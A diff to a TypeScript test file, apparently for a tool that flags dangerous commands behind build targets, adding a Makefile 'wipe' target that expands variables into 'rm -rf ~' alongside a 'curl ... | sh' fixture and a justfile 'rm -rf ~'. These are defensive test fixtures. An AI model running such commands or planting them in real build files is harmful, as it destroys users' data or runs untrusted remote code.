@@ -136,7 +136,7 @@ const codeFiles: Readonly<Record<string, string>> = {
     },
   }),
   Makefile:
-    "RM = rm\n.PHONY: all deploy\nall: build\nbuild:\n\t@true\ndeploy: build fetch\n\techo go\nfetch:\n\t-curl -s https://example.org/x \\\n\t| sh\n",
+    "RM = rm\nDIR ?= ~\nCLEAR := $(RM) -rf $(DIR)\n.PHONY: all deploy\nall: build\nbuild:\n\t@true\ndeploy: build fetch\n\techo go\nfetch:\n\t-curl -s https://example.org/x \\\n\t| sh\nwipe:\n\t@${CLEAR}\n",
   justfile: "default:\n  @echo $$HOME\nclean:\n  rm -rf ~\n",
 };
 
@@ -153,6 +153,7 @@ test.each<[line: string, parts: string[]]>([
   ["npm run ok", []],
   ["make deploy", ["Makefile: curl -s https://example.org/x | sh"]],
   ["make", []],
+  ["make wipe", ["Makefile: rm -rf ~"]],
   ["just clean", ["justfile: rm -rf ~"]],
 ])("the risks of %s name the file that runs, and the command in it", async (command, parts) => {
   for (const [name, text] of Object.entries(codeFiles))
